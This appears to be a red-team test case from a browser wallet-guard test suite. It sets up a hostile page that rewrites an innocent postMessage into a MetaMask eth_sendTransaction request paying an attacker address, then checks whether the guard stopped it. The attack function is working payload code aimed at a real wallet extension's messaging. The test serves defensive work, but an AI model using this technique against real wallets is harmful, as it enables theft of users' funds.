// G03: a message that asks for nothing has passed the guard; a listener of the page's makes a request of it before the wallet's listener reads it.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G03',
  title: 'a message becomes a request after it has arrived',
  source: 'our own red team, eighth round',
  level: 'prevented',
  engines: {
    chromium: 'an extension reads a message of its own',
    webkit: "no extension is loaded there, and what stands in for one shares the page's objects, as no extension does",
  },
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const call = { method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.EVIL, value: '0x5' }] };
    const request = {
      target: 'metamask-contentscript',
      data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id: 78, ...call } },
    };
    addEventListener(
      'message',
      ({ data }) => {
        try {
          if (data?.hello) Object.assign(data, request);
        } catch {
          // Held.
        }
      },
      true,
    );
    postMessage({ hello: [1] }, '*');
    await new Promise((resolve) => setTimeout(resolve, 300));
    // Said aloud, so that there is something to report.
    postMessage(request, '*');
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL, 'eth_sendTransaction'),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD, 'eth_sendTransaction'),
  violation: (a) => ({ surface: 'postmessage', account: a.EVIL }),
};
